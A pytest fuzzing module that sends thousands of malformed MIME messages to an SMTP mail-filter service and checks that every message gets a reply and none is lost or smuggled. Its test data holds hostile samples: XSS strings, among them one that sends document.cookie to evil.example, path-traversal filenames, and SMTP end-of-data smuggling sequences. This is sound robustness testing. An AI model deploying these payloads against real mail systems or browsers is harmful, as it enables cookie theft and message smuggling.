"""A MIME fuzzer over SMTP: 10,000 malformed messages to one real `bsm-guard serve`, several
transactions per connection on several connections at once. Every message gets a definite reply,
the process never falls over, and every 250 is in the upstream or the store exactly once."""

from __future__ import annotations

import asyncio
import base64
import random
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path

import httpx
import pytest
from procs import BUYER, RULES, Guard, RecordingUpstream, SmtpStream, held_senders, running

SEED = 20261207
MESSAGES = 10_000
CONNECTIONS = 12
REPLY_DEADLINE = 90.0  # one reply; longer is a hang
MAX_LINE = 998  # RFC 5321 4.5.3.1.6 without the CRLF: the fuzzer aims at the parser, not the line limit
HELD = re.compile(r"^250 2\.6\.0 .* as (\S+) \(")
SENDER = re.compile(r"^fuzz-(\d+)@shop\.example$")
REWRITE_SENDER = "rewrite@shop.example"

# ----------------------------------------------------------------------------- the generator
# Every message is a pure function of (SEED, its number): a failure names the number, and
# ``fuzz_message(n)`` gives the same bytes again.

Rng = random.Random
ORDER = b"Re: your order 114-1234567-1234567"
PROSE = (
    b"Hello, your parcel left our warehouse today and should arrive on Thursday.",
    b"Thank you for your patience. Kind regards, Shop Support",
    b"Hallo, Ihre Bestellung ist unterwegs. Mit freundlichen Gr\xc3\xbc\xc3\x9fen",
    b"Bonjour, votre colis est en route. Cordialement",
    b"\xe3\x81\x8a\xe5\xb1\x8a\xe3\x81\x91\xe3\x81\x97\xe3\x81\xbe\xe3\x81\x99",
    b"Visit https://www.lamp-manuals.com/model-7 for the manual.",
    b"Call us on +44 20 7946 0958 or write to help@shop.example.",
    b"Please leave us a 5-star review and we refund you.",
    b"Only an idiot would plug it in without reading the manual.",
    b"\xff\xfe\x00\x00 caf\xe9 na\xefve \x80\x81\x9f",
    b"=?utf-8?B?SGVsbG8=?= =?x-unknown?Q?caf=E9?= =?utf-8?B?!!!?=",
)
CHARSETS = (
    b"utf-8",
    b"us-ascii",
    b"iso-8859-1",
    b"windows-1252",
    b"utf-7",
    b"utf-16",
    b"utf-32",
    b"iso-2022-jp",
    b"shift_jis",
    b"gb18030",
    b"big5",
    b"koi8-r",
    b"cp500",
    b"x-unknown",
    b"unknown-8bit",
    b"",
    b'"utf-8',
    b"utf-8''",
    b"utf8;;;",
    b"\x00\xff",
    b"a" * 300,
)
ENCODINGS = (
    b"7bit",
    b"8bit",
    b"binary",
    b"base64",
    b"BASE64",
    b"quoted-printable",
    b"x-uuencode",
    b"bogus",
    b"base64; x=y",
    b"",
)
TYPES = (
    b"text/plain",
    b"text/html",
    b"text/enriched",
    b"text/calendar",
    b"text",
    b"text/plain/extra",
    b"image/png",
    b"image/jpeg",
    b"application/pdf",
    b"application/octet-stream",
    b"application/zip",
    b"application/ms-tnef",
    b"message/rfc822",
    b"message/delivery-status",
    b"message/partial; id=x; number=1; total=2",
    b"message/external-body; access-type=URL; URL=http://evil.example/x",
    b"multipart/mixed",
    b"multipart/alternative",
    b";;;",
    b"",
)
MAGIC = (
    b"%PDF-1.4\n",
    b"\x89PNG\r\n\x1a\n",
    b"\xff\xd8\xff\xe0",
    b"PK\x03\x04",
    b"MZ\x90\x00",
    b"GIF89a",
    b"",
)
HOSTILE_HTML = (
    b"<script>alert(document.cookie)</script>",
    b"<style>body{background:url(https://t.example/p.gif)}</style>",
    b'<img src="https://open.tracker.example/o/abc123.gif" width="1" height="1">',
    b"<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
    b'<a href="javascript:alert(1)">click</a>',
    b'<a href="https://www.amazon.com/dp/B000000000">see</a>',
    b'<meta http-equiv="refresh" content="0;url=https://evil.example">',
    b'<base href="https://evil.example/">',
    b'<svg onload="alert(1)"><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>',
    b'<img src="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGBg'
    b'AAAABQABpfZFQAAAAABJRU5ErkJggg==">',
    b'<span style="display:none">www.hidden-shop.com</span>',
    b'<div style="font-size:0;color:#fff">call +1 555 0100</div>',
    b"<!-- unterminated comment <a href=https://evil.example>",
    b"<![CDATA[ <a href=https://evil.example> ]]>",
    b"<textarea><a href=https://evil.example>x</a></textarea>",
    b"<!--[if mso]><a href=https://evil.example>x</a><![endif]-->",
    b"&#x10FFFF;&#0;&#xD800;&#99999999999;&amp&lt&gt;&nbsp&bogus;",
    b"<noscript><iframe src=https://evil.example></iframe></noscript>",
    b"<form action=https://evil.example><input name=q></form>",
    b"\xe2\x80\xaeevil.example\xe2\x80\xac <b>bold <i>unclosed <u>tags",
    b"<object data=x.swf></object><embed src=x><applet code=x>",
    b"<table><tr><td><table><tr><td>nested</td></tr></table>",
)
FILENAMES = (
    b"invoice.pdf",
    b"../../etc/passwd",
    b"a\x00b.exe",
    b"=?utf-8?B?w6TDtsO8LnBkZg==?=",
    b'"quoted\\"name.zip"',
    b"x" * 400 + b".pdf",
    b"\xff\xfe.txt",
    b"photo.jpg.exe",
    b"",
)


def pick(rng: Rng, items: tuple[bytes, ...]) -> bytes:
    return items[rng.randrange(len(items))]


def prose(rng: Rng, lines: int = 3) -> bytes:
    return b"\r\n".join(pick(rng, PROSE) for _ in range(rng.randint(1, lines)))


def junk(rng: Rng, n: int) -> bytes:
    return rng.randbytes(n)


def headers(rng: Rng, n: int, content_type: bytes | None = None, drop: float = 0.1) -> list[bytes]:
    hs = [
        b"From: Shop Support <support@shop.example>",
        b"To: " + BUYER.encode(),
        b"Subject: " + ORDER,
        b"In-Reply-To: <question-42@marketplace.amazon.com>",
        b"Message-ID: <fuzz-%d@shop.example>" % n,
        b"Date: Mon, 07 Dec 2026 10:00:00 +0000",
        b"MIME-Version: 1.0",
    ]
    hs = [h for h in hs if rng.random() >= drop]
    if content_type is not None:
        hs.append(b"Content-Type: " + content_type)
    return hs


def part(rng: Rng, depth: int = 0) -> bytes:
    """A leaf with random type, charset, encoding and a body that may not match any of them."""
    ctype = pick(rng, TYPES)
    params = b""
    if rng.random() < 0.6:
        params += b"; charset=" + pick(rng, CHARSETS)
    if rng.random() < 0.2:
        params += b"; name=" + pick(rng, FILENAMES)
    hs = [b"Content-Type: " + ctype + params]
    cte = pick(rng, ENCODINGS)
    if cte:
        hs.append(b"Content-Transfer-Encoding: " + cte)
    if rng.random() < 0.25:
        disposition = pick(rng, (b"attachment", b"inline", b"bogus", b""))
        hs.append(b"Content-Disposition: " + disposition + b"; filename=" + pick(rng, FILENAMES))
    return b"\r\n".join(hs) + b"\r\n\r\n" + body(rng, ctype, cte)


def body(rng: Rng, ctype: bytes, cte: bytes) -> bytes:
    if b"html" in ctype:
        raw = b"<html><body>" + b"".join(pick(rng, HOSTILE_HTML) for _ in range(rng.randint(1, 6)))
        raw += prose(rng) + (b"</body></html>" if rng.random() < 0.5 else b"")
    elif ctype.startswith((b"image", b"application")):
        raw = pick(rng, MAGIC) + junk(rng, rng.randint(0, 800))
    elif ctype.startswith(b"message/rfc822"):
        raw = b"\r\n".join(headers(rng, 0)) + b"\r\n\r\n" + prose(rng)
    else:
        raw = prose(rng, 6)
    lower = cte.lower()
    if lower.startswith(b"base64"):
        encoded = base64.encodebytes(raw)
        choice = rng.random()
        if choice < 0.3:
            encoded = encoded[: rng.randint(0, len(encoded))]  # truncated
        elif choice < 0.5:
            encoded = encoded.replace(b"=", b"")  # padding lost
        elif choice < 0.65:
            encoded = encoded[:10] + b"!@#$%^&*\x00\xff" + encoded[10:]  # junk in the alphabet
        return encoded
    if lower == b"quoted-printable":
        return raw.replace(b"=", b"=3D")[:-1] + pick(rng, (b"=ZZ", b"=", b"=0", b"=00", b"=\r\n", b"=C3"))
    if lower == b"x-uuencode":
        return b"begin 644 x.bin\r\nM" + junk(rng, 40).hex().encode() + b"\r\n`\r\nend"
    return raw


def broken_boundaries(rng: Rng, n: int) -> bytes:
    boundary = pick(rng, (b"b1", b"=_x", b"a" * 200, b"", b"with space", b'"quoted"', b"--", b"\xff\xfe"))
    declared = pick(rng, (b'; boundary="' + boundary + b'"', b"; boundary=" + boundary, b"", b"; boundary"))
    used = pick(rng, (boundary, boundary, b"B1", b"other", boundary + b" ", boundary[:-1]))
    parts = [part(rng) for _ in range(rng.randint(0, 4))]
    out = b"\r\n".join(headers(rng, n, b"multipart/mixed" + declared)) + b"\r\n\r\npreamble\r\n"
    for p in parts:
        out += b"--" + used + pick(rng, (b"\r\n", b"\r\n", b"  \r\n", b"garbage\r\n", b"")) + p + b"\r\n"
    closing = pick(rng, (b"--" + used + b"--\r\n", b"", b"--" + used + b"\r\n", b"--" + boundary + b"--"))
    return out + closing + pick(rng, (b"epilogue\r\n", b""))


def nested(rng: Rng, n: int) -> bytes:
    depth = rng.choice((2, 3, 5, 10, 20, 40)) if rng.random() < 0.95 else 120
    same = rng.random() < 0.3  # every level reuses one boundary
    inner = part(rng)
    for level in range(depth):
        b = b"same" if same else b"lvl%d" % level
        kind = pick(rng, (b"mixed", b"alternative", b"related", b"signed", b"digest", b"report"))
        siblings = b"".join(b"--" + b + b"\r\n" + part(rng) + b"\r\n" for _ in range(rng.randint(0, 1)))
        closing = b"--" + b + b"--\r\n" if rng.random() < 0.8 else b""
        inner = (
            b"Content-Type: multipart/" + kind + b'; boundary="' + b + b'"\r\n\r\n'
            b"--" + b + b"\r\n" + inner + b"\r\n" + siblings + closing
        )
    return b"\r\n".join(headers(rng, n)) + b"\r\n" + inner


def charsets(rng: Rng, n: int) -> bytes:
    charset = pick(rng, CHARSETS)
    text = prose(rng, 5).decode("utf-8", "replace")
    target = pick(rng, (b"utf-16", b"shift_jis", b"koi8-r", b"utf-8", b"latin-1", b"utf-32"))
    data = text.encode(target.decode(), "replace")
    ctype = pick(rng, (b"text/plain", b"text/html")) + b"; charset=" + charset
    hs = headers(rng, n, ctype)
    if rng.random() < 0.5:
        hs.append(b"Subject: =?" + charset + b"?B?" + base64.b64encode(data[:40]) + b"?=")
    if rng.random() < 0.3:
        hs[-1:] = [b"Content-Type: text/plain; charset*=" + charset + b"'en'%FF%FE%00"]
    cte = pick(rng, (b"8bit", b"base64", b"quoted-printable", b"7bit"))
    hs.append(b"Content-Transfer-Encoding: " + cte)
    payload = base64.encodebytes(data) if cte == b"base64" else data
    return b"\r\n".join(hs) + b"\r\n\r\n" + payload


def encodings(rng: Rng, n: int) -> bytes:
    ctype = pick(rng, (b"text/plain; charset=utf-8", b"text/html; charset=utf-8", b"application/pdf"))
    cte = pick(rng, ENCODINGS)
    hs = [*headers(rng, n, ctype), b"Content-Transfer-Encoding: " + cte]
    if rng.random() < 0.2:
        hs.append(b"Content-Transfer-Encoding: " + pick(rng, ENCODINGS))  # twice, disagreeing
    return b"\r\n".join(hs) + b"\r\n\r\n" + body(rng, ctype, cte)


def header_bytes(rng: Rng, n: int) -> bytes:
    nasty = (
        b"Subject: Re: order\x00 114-1234567-1234567 \xff\xfe",
        b"Subject: caf\xe9 \xc3\xa9t\xc3\xa9 \x1b[31mred\x1b[0m",
        b"From: \x00<support@shop.example>",
        b"To: =?utf-8?Q?=00=FF?= <" + BUYER.encode() + b">",
        b"X-Empty:",
        b"No colon at all",
        b": empty name",
        b"Bad Name: space in the name",
        b"\x00\x01\x02: control name",
        b" leading continuation line",
        b"Subject: =?utf-8?B?" + base64.b64encode("Ärger \x00 ☃".encode()) + b"?=",
        b"Subject: =?iso-8859-1?Q?caf=E9?==?bogus?Q?x?==?utf-8?B?@@@?=",
        b"Content-Type: text/plain; charset=utf-8\x00; format=flowed",
        b"Received: from \xff\xfe by \x00",
        b"Reply-To: <<<@@@>>>, ,;;",
        b"List-Unsubscribe: <https://evil.example/u>, <mailto:u@evil.example>",
        b"Subject: \r",
    )
    hs = headers(rng, n, b"text/plain; charset=utf-8", drop=0.3)
    for _ in range(rng.randint(1, 8)):
        hs.insert(rng.randint(0, len(hs)), pick(rng, nasty))
    return b"\r\n".join(hs) + b"\r\n\r\n" + prose(rng)


def long_headers(rng: Rng, n: int) -> bytes:
    hs = headers(rng, n, b"text/plain; charset=utf-8")
    choice = rng.randrange(4)
    if choice == 0:  # one header at the line limit
        hs.append(b"X-Long: " + b"x" * (MAX_LINE - 8))
    elif choice == 1:  # a header folded over many lines
        hs.append(
            b"Subject: start"
            + b"".join(b"\r\n " + pick(rng, PROSE)[:60] for _ in range(rng.randint(20, 100)))
        )
    elif choice == 2:  # many headers
        hs.extend(b"X-H%d: %s" % (i, pick(rng, PROSE)[:40]) for i in range(rng.randint(50, 200)))
    else:  # many recipients in To
        hs.append(b"To: " + b",\r\n ".join(b"b%d@marketplace.amazon.com" % i for i in range(200)))
    return b"\r\n".join(hs) + b"\r\n\r\n" + prose(rng)


def missing(rng: Rng, n: int) -> bytes:
    choice = rng.randrange(7)
    if choice == 0:
        return b""
    if choice == 1:
        return b"\r\n"
    if choice == 2:
        return prose(rng)  # a body, no headers
    if choice == 3:
        return b"\r\n".join(headers(rng, n))  # headers, no body, no blank line
    if choice == 4:
        return b"\r\n".join(headers(rng, n, drop=0.9)) + b"\r\n\r\n"
    if choice == 5:
        return b"Subject:\r\nFrom:\r\nTo:\r\n\r\n" + prose(rng)
    return b"\r\n\r\n\r\n" + b"\r\n".join(headers(rng, n)) + b"\r\n\r\n" + prose(rng)


def binary_parts(rng: Rng, n: int) -> bytes:
    b = b"bin%d" % n
    out = b"\r\n".join(headers(rng, n, b"multipart/mixed; boundary=" + b)) + b"\r\n\r\n"
    out += b"--" + b + b"\r\nContent-Type: text/plain\r\n\r\n" + prose(rng) + b"\r\n"
    for _ in range(rng.randint(1, 3)):
        ctype = pick(rng, TYPES)
        cte = pick(rng, (b"binary", b"8bit", b"base64", b""))
        data = pick(rng, MAGIC) + junk(rng, rng.randint(0, 1_500))
        payload = base64.encodebytes(data) if cte == b"base64" and rng.random() < 0.7 else data
        out += b"--" + b + b"\r\nContent-Type: " + ctype + b"; name=" + pick(rng, FILENAMES) + b"\r\n"
        out += (b"Content-Transfer-Encoding: " + cte + b"\r\n" if cte else b"") + b"\r\n" + payload + b"\r\n"
    return out + b"--" + b + b"--\r\n"


def wrong_types(rng: Rng, n: int) -> bytes:
    ctype = pick(rng, TYPES)
    choice = rng.randrange(3)
    if choice == 0:  # the declared type says one thing, the body is another
        payload = pick(rng, (prose(rng), junk(rng, 500), b"<html><body>" + pick(rng, HOSTILE_HTML)))
    elif choice == 1:  # a message inside a message inside ...
        payload = prose(rng)
        for _ in range(rng.randint(1, 40)):
            payload = (
                b"Content-Type: message/rfc822\r\n\r\n"
                + b"\r\n".join(headers(rng, n))
                + b"\r\n\r\n"
                + payload
            )
    else:
        payload = body(rng, pick(rng, TYPES), pick(rng, ENCODINGS))
    return b"\r\n".join(headers(rng, n, ctype)) + b"\r\n\r\n" + payload


def hostile_html(rng: Rng, n: int) -> bytes:
    depth = rng.choice((1, 5, 10, 50, 300))
    tag = pick(rng, (b"div", b"table", b"b", b"span", b"font", b"blockquote", b"a"))
    markup = b"<" + tag + b">" + b"\r\n<".join([tag + b">"] * depth)
    markup += b"".join(pick(rng, HOSTILE_HTML) for _ in range(rng.randint(1, 8)))
    markup += prose(rng) + (b"</" + tag + b">") * rng.randint(0, depth)
    if rng.random() < 0.3:
        markup += b"<p " + b" ".join(b"a%d=x" % i for i in range(rng.randint(10, 200))) + b">"
    if rng.random() < 0.3:
        markup += b"&#65;" * rng.randint(10, 1_000)
    ctype = b"text/html; charset=" + pick(rng, (b"utf-8", b"iso-8859-1", b"x-unknown"))
    if rng.random() < 0.5:
        b = b"alt%d" % n
        html = b"--" + b + b"\r\nContent-Type: " + ctype + b"\r\n\r\n" + markup + b"\r\n--" + b + b"--\r\n"
        return b"\r\n".join(headers(rng, n, b"multipart/alternative; boundary=" + b)) + b"\r\n\r\n" + html
    return b"\r\n".join(headers(rng, n, ctype)) + b"\r\n\r\n" + markup


def random_bytes(rng: Rng, n: int) -> bytes:
    data = junk(rng, rng.randint(0, 800))
    if rng.random() < 0.5:
        return b"\r\n".join(headers(rng, n)) + b"\r\n\r\n" + data
    return data


def smuggling(rng: Rng, n: int) -> bytes:
    """End-of-data look-alikes inside the body: the client dot-stuffs, so the server must see
    exactly one message (a second one in the upstream is a smuggled message)."""
    inner = b"MAIL FROM:<smuggled@evil.example>\r\nRCPT TO:<" + BUYER.encode() + b">\r\nDATA\r\nSmuggled\r\n"
    mark = pick(rng, (b"\r\n.\r\n", b"\n.\n", b"\r.\r", b"\n.\r\n", b"\r\n.\n", b"\r\n..\r\n", b"\r\n. \r\n"))
    hs = headers(rng, n, b"text/plain; charset=utf-8")
    return b"\r\n".join(hs) + b"\r\n\r\n" + prose(rng) + mark + inner + mark + b"From the mbox\r\n.\r\n"


def rewrites(rng: Rng, n: int) -> bytes:
    """What bsm-guard rewrites (a tracking pixel, styling, blank lines, List-Unsubscribe) in
    parts whose bytes do not fit their charset, with lines up to the limit."""
    pixel = pick(
        rng,
        (
            b'<img src="https://open.tracker.example/o/abc123.gif" width="1" height="1">',
            b'<img width=0 height=0 src="https://t.example/p.png">',
            b'<img style="display:none" src="https://t.example/q.gif">',
        ),
    )
    style = b'<font color="red" size="7"><center><b style="font-size:40px">SALE</b></center></font>'
    bad = pick(rng, (b"\xff", b"\x81", b"\xe9", b"\xc3", b"\x00", b"\xe2\x80"))
    long_line = (pick(rng, PROSE) + b" " + bad * rng.randint(1, 60) + b" ") * 20
    cut = rng.randint(MAX_LINE - 80, MAX_LINE)
    html = b"<html><body>\r\n" + long_line[:cut] + b"\r\n" + pixel + b"\r\n" + style + b"\r\n" * 8
    html += prose(rng) + b"</body></html>"
    charset = pick(rng, (b"utf-8", b"us-ascii", b"windows-1252", b"iso-8859-1", b"x-unknown", b"shift_jis"))
    cte = pick(rng, (b"8bit", b"7bit", b"binary", b"quoted-printable", b"base64"))
    payload = base64.encodebytes(html) if cte == b"base64" else html
    hs = headers(rng, n, b"text/html; charset=" + charset)
    if rng.random() < 0.5:
        hs.append(b"List-Unsubscribe: <https://shop.example/unsubscribe?u=1>")
    return b"\r\n".join([*hs, b"Content-Transfer-Encoding: " + cte]) + b"\r\n\r\n" + payload


FAMILIES: tuple[Callable[[Rng, int], bytes], ...] = (
    rewrites,
    broken_boundaries,
    nested,
    charsets,
    encodings,
    header_bytes,
    long_headers,
    missing,
    binary_parts,
    wrong_types,
    hostile_html,
    random_bytes,
    smuggling,
)


def mutate(rng: Rng, raw: bytes) -> bytes:
    """Byte-level damage on top: flips, inserts, cuts, repeats, truncation."""
    data = bytearray(raw)
    for _ in range(rng.randint(1, 6)):
        if not data:
            break
        at = rng.randrange(len(data))
        op = rng.randrange(5)
        if op == 0:
            data[at] = rng.randrange(256)
        elif op == 1:
            data[at:at] = rng.randbytes(rng.randint(1, 16))
        elif op == 2:
            del data[at : at + rng.randint(1, 64)]
        elif op == 3:
            data[at:at] = data[at : at + rng.randint(1, 200)] * rng.randint(2, 5)
        else:
            del data[at:]
    return bytes(data)


def fit_lines(raw: bytes) -> bytes:
    """Lines cut to the SMTP limit, CRLF between them (bare CRs stay inside lines)."""
    out: list[bytes] = []
    for line in raw.replace(b"\r\n", b"\n").split(b"\n"):
        out.extend(line[i : i + MAX_LINE] for i in range(0, len(line), MAX_LINE)) if line else out.append(b"")
    return b"\r\n".join(out) + b"\r\n"


def fuzz_message(n: int) -> tuple[str, bytes]:
    rng = random.Random(f"{SEED}:{n}")
    family = FAMILIES[n % len(FAMILIES)]
    raw = family(rng, n)
    if rng.random() < 0.25:
        raw = mutate(rng, raw)
    return family.__name__, fit_lines(raw)


# ----------------------------------------------------------------------------- the run


@pytest.fixture(scope="module")
def fuzz_guard(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Guard, RecordingUpstream]]:
    workdir = tmp_path_factory.mktemp("fuzz")
    upstream = RecordingUpstream()
    guard = Guard(
        workdir,
        f"sqlite+aiosqlite:///{workdir / 'fuzz.db'}",
        f"127.0.0.1:{upstream.port}",
        name="fuzz",
        config={
            "detect": {"rule_dirs": [str(RULES)]},
            "notify": {"enabled": False},
            "upstream": {"timeout_seconds": 30},
            "smtp": {"max_sessions_per_client": CONNECTIONS + 5, "workers": 2},  # both cores
        },
    )
    upstream.start()
    try:
        with running([guard]):
            yield guard, upstream
    finally:
        upstream.stop()


@dataclass
class FuzzRun:
    replies: Counter[str] = field(default_factory=Counter)  # "250 2.0.0", "451 4.3.0", ...
    families: Counter[str] = field(default_factory=Counter)
    relayed: set[int] = field(default_factory=set)
    held: dict[str, int] = field(default_factory=dict)  # held id -> message number
    refused: set[int] = field(default_factory=set)
    temporary: list[tuple[int, str, str]] = field(default_factory=list)  # (n, family, reply)
    failures: list[str] = field(default_factory=list)  # no definite reply
    unusual: list[tuple[int, str, str]] = field(default_factory=list)  # 5xx other than 550 5.7.1
    sent: int = 0


async def fuzz_connection(port: int, numbers: list[int], run: FuzzRun, rng: Rng) -> None:
    c: SmtpStream | None = None
    for n in numbers:
        family, raw = fuzz_message(n)
        run.families[family] += 1
        try:
            if c is None:
                c = await SmtpStream.open(port)
                assert (await c.reply(REPLY_DEADLINE))[0] == 220
                assert (await c.cmd(b"EHLO fuzz.test", REPLY_DEADLINE))[0] == 250
            elif rng.random() < 0.3:
                assert (await c.cmd(b"RSET", REPLY_DEADLINE))[0] == 250
            options = pick(rng, (b"", b"", b" BODY=8BITMIME", b" SMTPUTF8", b" BODY=8BITMIME SMTPUTF8"))
            code, text = await c.cmd(b"MAIL FROM:<fuzz-%d@shop.example>%s" % (n, options), REPLY_DEADLINE)
            if code == 250:
                code, text = await c.cmd(f"RCPT TO:<{BUYER}>".encode(), REPLY_DEADLINE)
            if code == 250:
                code, text = await c.cmd(b"DATA", REPLY_DEADLINE)
            if code == 354:
                code, text = await c.send_data(raw, REPLY_DEADLINE)
            run.sent += 1
        except (TimeoutError, OSError, AssertionError) as exc:
            run.failures.append(f"message {n} ({family}): {type(exc).__name__} {exc}")
            if c is not None:
                c.close()
            c = None
            continue
        run.replies[text[:9]] += 1
        if code in (0, 421) or not 200 <= code < 600:  # dropped or closed on us: no definite reply
            run.failures.append(f"message {n} ({family}): {text!r}")
            c.close()
            c = None
        elif (held := HELD.match(text)) is not None:
            run.held[held.group(1)] = n
        elif code == 250:
            run.relayed.add(n)
        elif 400 <= code < 500:
            run.temporary.append((n, family, text))
        else:
            run.refused.add(n)
            if not text.startswith("550 5.7.1"):  # not a policy refusal: worth a look
                run.unusual.append((n, family, text))
    if c is not None:
        await c.cmd(b"QUIT", REPLY_DEADLINE)
        c.close()


def test_generator_is_deterministic_and_varied() -> None:
    sample = [fuzz_message(n) for n in range(0, 600, 7)]
    assert sample == [fuzz_message(n) for n in range(0, 600, 7)]
    assert len({raw for _, raw in sample}) >= 0.9 * len(sample)  # "missing" has few shapes
    assert {family for family, _ in sample} == {f.__name__ for f in FAMILIES}
    assert all(len(line) <= MAX_LINE for _, raw in sample for line in raw.split(b"\r\n"))


async def test_ten_thousand_malformed_messages_each_get_a_reply_and_none_is_lost(
    fuzz_guard: tuple[Guard, RecordingUpstream], tmp_path: Path
) -> None:
    guard, upstream = fuzz_guard
    run = FuzzRun()
    numbers = list(range(MESSAGES))
    rng = random.Random(SEED)
    conns = [
        fuzz_connection(guard.smtp_port, numbers[i::CONNECTIONS], run, random.Random(rng.random()))
        for i in range(CONNECTIONS)
    ]
    await asyncio.gather(*conns)

    assert guard.proc is not None and guard.proc.poll() is None, guard.log_tail()
    async with httpx.AsyncClient(timeout=30) as client:
        health = (await client.get(f"{guard.url}/healthz")).status_code
    in_upstream = Counter(
        int(m.group(1)) for sender, _, _ in upstream.messages if (m := SENDER.match(sender))
    )
    strangers = [s for s, _, _ in upstream.messages if not SENDER.match(s) and s != REWRITE_SENDER]
    in_store = await held_senders(guard.database)
    lost = len(run.relayed - set(in_upstream)) + len(set(run.held) - set(in_store))
    samples = tmp_path / "samples"  # every 4xx and every 5xx that is not a policy refusal
    for n, family, text in run.temporary + run.unusual:
        samples.mkdir(exist_ok=True)
        (samples / f"{n:05d}-{family}-{text[:3]}.eml").write_bytes(fuzz_message(n)[1])
    print(
        f"\nfuzz: messages fuzzed {run.sent} of {MESSAGES} over {CONNECTIONS} connections, "
        f"families {dict(sorted(run.families.items()))}, "
        f"replies by code {dict(sorted(run.replies.items()))}, "
        f"held {len(run.held)} (in store {len(in_store)}), relayed {len(run.relayed)} "
        f"(in upstream {len(in_upstream)}), refused {len(run.refused)}, temporary {len(run.temporary)}, "
        f"lost {lost}, no definite reply {len(run.failures)}, /healthz {health}"
    )
    for n, family, text in run.temporary[:10]:
        print(f"  4xx: message {n} ({family}): {text}")
    for n, family, text in run.unusual[:10]:
        print(f"  other 5xx: message {n} ({family}): {text}")
    if samples.exists():
        print(f"  samples saved under {samples} (or regenerate: fuzz_message(n))")
    assert not run.failures, run.failures[:10]
    assert run.sent == MESSAGES
    assert health == 200
    assert lost == 0, (
        sorted(run.relayed - set(in_upstream))[:10],
        sorted(set(run.held) - set(in_store))[:10],
    )
    assert not strangers, f"the upstream got messages nobody sent (smuggled?): {strangers[:5]}"
    assert max(in_upstream.values(), default=1) == 1, "a message reached the upstream twice"
    assert set(in_upstream) == run.relayed, sorted(set(in_upstream) ^ run.relayed)[:10]
    assert set(in_store) == set(run.held)
    assert all(in_store[i] == f"fuzz-{n}@shop.example" for i, n in run.held.items())
    assert sum(run.replies[k] for k in run.replies if k.startswith("250")) == len(in_upstream) + len(in_store)


UNDECODABLE_HTML = (
    b"From: Shop Support <support@shop.example>\r\n"
    b"To: buyer-7@marketplace.amazon.com\r\n"
    b"Subject: Re: your order 114-1234567-1234567\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/html; charset=utf-8\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n"
    b"\r\n"
    b"<html><body>\r\n"
    + (b"<p>Hello, your parcel is on its way. " + b"\xff" * 20 + b" " + b"x" * MAX_LINE)[: MAX_LINE - 4]
    + b"</p>\r\n"
    b'<img src="https://open.tracker.example/o/abc123.gif" width="1" height="1">\r\n'
    b"</body></html>\r\n"
)


async def test_a_rewritten_part_keeps_its_lines_within_the_smtp_limit(
    fuzz_guard: tuple[Guard, RecordingUpstream],
) -> None:
    """Stripping a tracking pixel from an 8bit HTML part whose bytes are not valid UTF-8, on a
    line at the limit: the result is relayed with every line within 1,000 octets, or held.
    (Found by the fuzzer: the rewrite turned each undecodable byte into U+FFFD, three octets.)"""
    guard, upstream = fuzz_guard
    assert max(len(line) for line in UNDECODABLE_HTML.split(b"\r\n")) == MAX_LINE
    c = await SmtpStream.open(guard.smtp_port)
    assert (await c.reply())[0] == 220
    assert (await c.cmd(b"EHLO fuzz.test"))[0] == 250
    _code, text = await c.transaction(UNDECODABLE_HTML, mail_from=REWRITE_SENDER)
    c.close()
    assert text.startswith(("250 2.0.0", "250 2.6.0")), text
    relayed = [raw for sender, _, raw in upstream.messages if sender == REWRITE_SENDER]
    assert all(len(line) <= MAX_LINE for raw in relayed for line in raw.split(b"\r\n"))
